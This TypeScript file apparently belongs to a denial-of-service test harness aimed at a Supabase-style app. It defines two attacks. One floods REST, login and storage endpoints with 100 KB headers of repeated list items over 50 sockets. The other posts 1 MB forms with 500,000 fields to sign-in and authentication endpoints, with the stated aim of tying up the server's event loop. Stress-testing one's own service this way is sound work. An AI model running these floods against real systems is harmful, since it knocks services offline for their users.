/** Headers and forms with very many items, which servers split and compare. */
import type { Attack } from '../../attacker/attack.ts';
import { flood } from '../../attacker/http.ts';

const HEADER_BYTES = 100_000;
const FORM_BYTES = 1_000_000;

/** Sends long lists in headers. */
export const headerLists: Attack = {
  name: 'http/header-lists',
  description:
    'Accept, Accept-Language, Prefer, Cookie and If-None-Match with up to 30,000 items, 50 at once',
  cost: 'event loop: splitting and comparing lists',
  run: (context) => {
    const list = (item: string) => item.repeat(HEADER_BYTES / item.length);
    const rest = '/rest/v1/abuse_big?select=id&limit=1';
    const requests = [
      [rest, { accept: list('text/a;q=0.1,') }],
      [rest, { prefer: list('count=exact,') }],
      ['/login', { 'accept-language': list('de;q=0.1,') }],
      ['/', { cookie: list('sb-greenroom-auth-token.1=x; ') }],
      ['/', { cookie: list('a=b; ') }],
      ['/storage/v1/object/public/pictures/large.png', { 'if-none-match': list('"a",'), range: 'bytes=0-0' }],
    ] as const;
    return flood(context, {
      sockets: 50,
      request: (index) => {
        const [path, headers] = requests[index % requests.length] ?? requests[0];
        return { path, headers: { apikey: context.anonKey, ...headers } };
      },
    });
  },
};

/** Sends forms with many fields. */
export const wideForms: Attack = {
  name: 'http/wide-forms',
  description:
    'forms of 1 MB with 500,000 fields to the sign-in page and the authentication service, 4 at once',
  cost: 'event loop: parsing fields',
  run: (context) => {
    const paths = ['/login', '/auth/v1/oauth/token', '/auth/v1/sso/saml/acs', '/auth/v1/callback'];
    const headers = {
      origin: 'https://greenroom.example',
      'content-type': 'application/x-www-form-urlencoded',
    };
    const body = 'a&'.repeat(FORM_BYTES / 2);
    return flood(context, {
      sockets: 4,
      request: (index) => ({ path: paths[index % paths.length] ?? '', headers, body }),
    });
  },
};
